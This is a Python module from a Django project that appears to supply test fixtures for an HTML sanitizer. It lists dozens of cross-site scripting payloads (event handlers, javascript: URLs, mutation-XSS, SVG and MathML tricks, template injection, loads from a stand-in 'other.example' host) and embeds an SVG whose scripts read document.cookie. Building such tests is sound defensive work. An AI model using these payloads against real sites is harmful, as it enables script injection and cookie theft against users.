"""Attacks as people know them, and those of a folder of cases where there is one."""

import json
from functools import cache
from pathlib import Path

from django.conf import settings

FOLDER = settings.BASE_DIR.parent / "shared" / "cases" / "sanitize"
# Every one of these runs in a browser, or sends something, where it is not cleaned.
OWN = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//other.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror = alert(1)//",
    "<IMG/SRC=x/ONERROR=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>here</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)><a id=x>x</a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<math><a xlink:href=\"javascript:alert(1)\">here</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">here</a>",
    "<a href=\"java\tscript:alert(1)\">here</a>",
    "<a href=\"&#x6a;avascript&colon;alert(1)\">here</a>",
    "<a href=\" \x01javascript:alert(1)\">here</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">here</a>",
    "<a href=\"vbscript:alert(1)\">here</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit value=here></form>",
    "<button form=x formaction=\"javascript:alert(1)\">here</button>",
    "<details open ontoggle=alert(1)><summary>here</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import 'https://other.example/x.css';</style>",
    "<div style=\"background:url(https://other.example/x.png)\">x</div>",
    "<link rel=stylesheet href=https://other.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://other.example/\">",
    "<base href=https://other.example/>",
    "<img src=https://other.example/x.png>",
    "{{constructor.constructor('alert(1)')()}}",
    "\\\";alert(1);//",
    "${alert(1)}",
    "<p id=location name=location>x</p><form name=document><input name=cookie></form>",
    "<dialog open onclose=alert(1)><template><script>alert(1)</script></template></dialog>",
    "<xss style=animation-name:x onanimationstart=alert(1) tabindex=1>x</xss>",
)  # fmt: skip
# A drawing as a drawing program writes it, with what somebody put into it.
SVG = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg version="1.1" id="svg2" xmlns="http://www.w3.org/2000/svg"
 xmlns:svg="http://www.w3.org/2000/svg" onload="alert(1)">
<script>alert("XSS");</script><script>alert(document.cookie);</script>
<circle style="fill:#666666" cx="50" cy="50" r="40"/></svg>"""


@cache
def payloads() -> tuple[str, ...]:
    """Our own, and each of the folder."""
    found = list(OWN)
    for file in sorted(FOLDER.glob("*.jsonl")):
        lines = file.read_text("utf-8").strip().split("\n")
        found += [json.loads(line)["payload"] for line in lines]
    return tuple(dict.fromkeys(found))


def drawings() -> dict[str, bytes]:
    """Drawings with a script in them, by name."""
    files: list[Path] = sorted(FOLDER.glob("*.svg"))
    return {"own.svg": SVG, **{file.name: file.read_bytes() for file in files}}
